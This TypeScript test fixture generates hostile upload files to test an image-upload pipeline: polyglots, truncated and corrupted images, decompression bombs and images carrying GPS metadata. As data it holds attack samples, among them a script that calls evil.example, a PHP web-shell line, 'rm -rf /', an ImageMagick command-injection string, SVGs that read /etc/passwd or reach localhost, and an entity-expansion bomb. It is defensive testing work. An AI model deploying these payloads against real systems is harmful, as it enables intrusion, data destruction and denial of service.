import { gzipSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { drawPng, pngChunk } from './draw-png.ts';

/** A file that somebody might send instead of a picture of themselves, and its permitted outcomes. */
export interface Hostile {
  name: string;
  file: Buffer;
  /** kept: re-encoded and stored. refused: by type or size. either: the remains may still be a picture. */
  fate: 'kept' | 'refused' | 'either';
}

/** If this is in the stored file, it was not re-encoded. */
export const canary = 'CANARY-7f3a';
const script = `<script>fetch('//evil.example/${canary}')</script>`;

/** Yields every kind, one at a time: none stays in memory once the next is made. */
export async function* drawHostilePictures(): AsyncGenerator<Hostile> {
  const pictures = await drawPictures();
  yield* notPictures();
  yield* otherFormats();
  yield* polyglots(pictures);
  yield* cut(pictures);
  yield* damaged(pictures);
  yield* bombs(pictures);
  yield* moving();
  yield* withLocation();
}

type Pictures = Record<'jpeg' | 'png' | 'webp', Buffer>;

/** Deterministic noise from a seed. */
function noise(width: number, height: number, seed = 1): Sharp {
  const bytes = Buffer.alloc(width * height * 3);
  let state = seed;
  for (let at = 0; at < bytes.length; at += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff;
    bytes[at] = state >>> 16;
  }
  return sharp(bytes, { raw: { width, height, channels: 3 } });
}

async function drawPictures(): Promise<Pictures> {
  const [jpeg, png, webp] = await Promise.all([
    noise(320, 200).jpeg().toBuffer(),
    noise(320, 200).png().toBuffer(),
    noise(300, 300).webp().toBuffer(),
  ]);
  return { jpeg, png, webp };
}

function* notPictures(): Generator<Hostile> {
  const refused = (name: string, content: string | Buffer): Hostile => ({
    name,
    file: Buffer.from(content as string),
    fate: 'refused',
  });
  yield refused('nothing at all', '');
  const texts = [
    `<!doctype html><html><body>${script}</body></html>`,
    script,
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
    `<?php system($_GET['${canary}']); ?>`,
    `GIF89a=0;/*${canary}*/alert(1)`,
    '%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript >> >>',
    '#!/bin/sh\nrm -rf /',
    'push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 \'https://evil.example/x"|ls "-la\'\npop graphic-context',
  ];
  for (const [at, text] of texts.entries()) {
    for (const before of ['', '\ufeff', '\n\n  ', '\u0000'])
      yield refused(`text ${at} after ${JSON.stringify(before)}`, before + text);
  }
  const drawings = [
    `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${script}</svg>`,
    '<svg xmlns="http://www.w3.org/2000/svg" width="30000" height="30000"><rect width="30000" height="30000"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd" width="9" height="9"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:1/x" width="9" height="9"/></svg>',
    `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(50)}"><!ENTITY b "${'&a;'.repeat(50)}">]><svg xmlns="http://www.w3.org/2000/svg"><text>${'&b;'.repeat(50)}</text></svg>`,
  ];
  for (const [at, drawing] of drawings.entries()) {
    yield refused(`drawing ${at}`, drawing);
    yield refused(`drawing ${at}, declared`, `<?xml version="1.0" encoding="UTF-8"?>\n${drawing}`);
    yield refused(`drawing ${at}, packed`, gzipSync(drawing));
    yield refused(`drawing ${at}, in UTF-16`, Buffer.from(`\ufeff${drawing}`, 'utf16le'));
  }
  const magics = ['8950', '89504e470d0a1a0a', 'ffd8', 'ffd8ffe0', 'ffd8ffd9', '52494646', '424d', '4d5a', '504b0304'];
  for (const magic of [
    ...magics,
    '7f454c46',
    '49492a00',
    '00000100',
    '1a45dfa3',
    '0000001c66747970',
    '52494646ffffffff57454250',
  ]) {
    for (const size of [0, 16, 1_000]) {
      yield refused(`${magic} and ${size} bytes`, Buffer.concat([Buffer.from(magic, 'hex'), Buffer.alloc(size, 0x41)]));
    }
  }
}

async function* otherFormats(): AsyncGenerator<Hostile> {
  for (const size of [1, 40, 200]) {
    const picture = noise(size, size, size);
    yield { name: `GIF of ${size}`, file: await picture.clone().gif().toBuffer(), fate: 'refused' };
    yield { name: `TIFF of ${size}`, file: await picture.clone().tiff().toBuffer(), fate: 'refused' };
    yield { name: `AVIF of ${size}`, file: await picture.clone().avif({ effort: 0 }).toBuffer(), fate: 'refused' };
  }
}

function* polyglots(pictures: Pictures): Generator<Hostile> {
  const tails = [
    script,
    `PK\u0003\u0004${canary}`,
    `<?php echo '${canary}'; ?>`,
    `%PDF-1.7 ${canary}`,
    `\u0000${canary}`,
  ];
  for (const [kind, picture] of Object.entries(pictures)) {
    for (const [at, tail] of tails.entries()) {
      yield { name: `${kind} followed by tail ${at}`, file: Buffer.concat([picture, Buffer.from(tail)]), fate: 'kept' };
      yield { name: `${kind} after tail ${at}`, file: Buffer.concat([Buffer.from(tail), picture]), fate: 'refused' };
    }
  }
  const comment = Buffer.from(`*/=1;/*${canary}*/alert(1);/*${script}`);
  const marker = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
  const jpeg = [pictures.jpeg.subarray(0, 2), marker, comment, pictures.jpeg.subarray(2)];
  yield { name: 'jpeg with a script as its comment', file: Buffer.concat(jpeg), fate: 'kept' };
  for (const name of ['tEXt', 'zTXt', 'iTXt', 'eXIf', 'iCCP', 'abCd']) {
    const chunk = pngChunk(name, Buffer.from(`Comment\u0000${script}`));
    const png = [pictures.png.subarray(0, 33), chunk, pictures.png.subarray(33)];
    yield { name: `png with a script in ${name}`, file: Buffer.concat(png), fate: 'either' };
  }
}

function* cut(pictures: Pictures): Generator<Hostile> {
  for (const [kind, picture] of Object.entries(pictures)) {
    for (let part = 1; part <= 20; part += 1) {
      const file = picture.subarray(0, Math.floor((picture.length * part) / 21));
      yield { name: `${kind} cut at ${part} of 21`, file, fate: 'refused' };
    }
  }
}

function* damaged(pictures: Pictures): Generator<Hostile> {
  for (const [kind, picture] of Object.entries(pictures)) {
    for (let at = 0; at < 20; at += 1) {
      const file = Buffer.from(picture);
      for (let hit = 0; hit <= at; hit += 1) {
        const place = (at * 7_919 + hit * 104_729) % file.length;
        file[place] = (file[place] as number) ^ (0x5a + at);
      }
      yield { name: `${kind} damaged ${at + 1} times`, file, fate: 'either' };
    }
  }
}

async function* bombs(pictures: Pictures): AsyncGenerator<Hostile> {
  const refused = (name: string, file: Buffer): Hostile => ({ name, file, fate: 'refused' });
  const side = 30_000;
  yield refused('30,000 × 30,000, one bit', await drawPng({ width: side, height: side, depth: 1 }));
  yield refused('30,000 × 30,000, one byte', await drawPng({ width: side, height: side }));
  for (const rows of [0, 1, 2_000]) {
    const shape = { width: side, height: side, colour: 6, depth: 16, rows } as const;
    yield refused(`30,000 × 30,000 of which ${rows} rows are there`, await drawPng(shape));
    yield refused(`the same in passes, ${rows}`, await drawPng({ ...shape, isInterlaced: true }));
  }
  yield refused('12,000 × 12,000', await drawPng({ width: 12_000, height: 12_000 }));
  yield refused(
    '7,000 × 7,000 in passes',
    await drawPng({ width: 7_000, height: 7_000, colour: 6, isInterlaced: true }),
  );
  for (const length of [1_000, 20_000, 1_000_000, 40_000_000]) {
    yield refused(
      `1 × ${length}`,
      await drawPng({ width: 1, height: length, depth: 1, rows: Math.min(length, 1_000_000) }),
    );
    yield refused(`${length} × 1`, await drawPng({ width: length, height: 1, depth: 1 }));
  }
  for (const side16 of [0, 1, 30_000, 65_500, 65_535]) {
    const file = Buffer.from(pictures.jpeg);
    const frame = file.indexOf(Buffer.from([0xff, 0xc0]));
    file.writeUInt16BE(side16, frame + 5);
    file.writeUInt16BE(side16, frame + 7);
    yield { name: `jpeg that says it is ${side16} wide`, file, fate: side16 === 1 ? 'either' : 'refused' };
  }
  const webp = Buffer.from(pictures.webp);
  const frame = webp.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
  webp.writeUInt16LE(16_383, frame + 3);
  webp.writeUInt16LE(16_383, frame + 5);
  yield refused('webp that says it is 16,383 wide', webp);
  for (const megabytes of [6, 12, 40])
    yield refused(`${megabytes} MB`, Buffer.alloc(megabytes * 1_000_000, pictures.jpeg));
}

async function* moving(): AsyncGenerator<Hostile> {
  for (const frames of [2, 20, 100]) {
    const strip = noise(64, 64 * frames, frames);
    const raw = await strip.raw().toBuffer();
    const film = () => sharp(raw, { raw: { width: 64, height: 64 * frames, channels: 3, pageHeight: 64 } });
    yield { name: `moving webp of ${frames}`, file: await film().webp({ effort: 0 }).toBuffer(), fate: 'kept' };
    yield { name: `moving gif of ${frames}`, file: await film().gif({ effort: 1 }).toBuffer(), fate: 'refused' };
  }
  const control = Buffer.alloc(8);
  control.writeUInt32BE(4_000_000_000, 0);
  const film = await drawPng({ width: 64, height: 64, extra: [pngChunk('acTL', control)] });
  yield { name: 'png of four thousand million frames', file: film, fate: 'either' };
}

async function* withLocation(): AsyncGenerator<Hostile> {
  const exif = {
    IFD0: { Copyright: canary, Make: canary },
    IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '23/1 32/1 51/1', GPSLongitudeRef: 'W', GPSLongitude: '46/1 38/1 10/1' },
  };
  for (const orientation of [1, 3, 6, 8]) {
    const photo = (): Sharp => noise(400, 300, orientation).withExif(exif).withMetadata({ orientation });
    for (const kind of ['jpeg', 'png', 'webp'] as const) {
      yield {
        name: `${kind} taken in São Paulo, turned ${orientation}`,
        file: await photo().toFormat(kind).toBuffer(),
        fate: 'kept',
      };
    }
  }
  const profile = noise(300, 300)
    .withIccProfile('p3')
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${canary}</x:xmpmeta>`);
  yield { name: 'jpeg with a colour profile and XMP', file: await profile.jpeg().toBuffer(), fate: 'kept' };
}
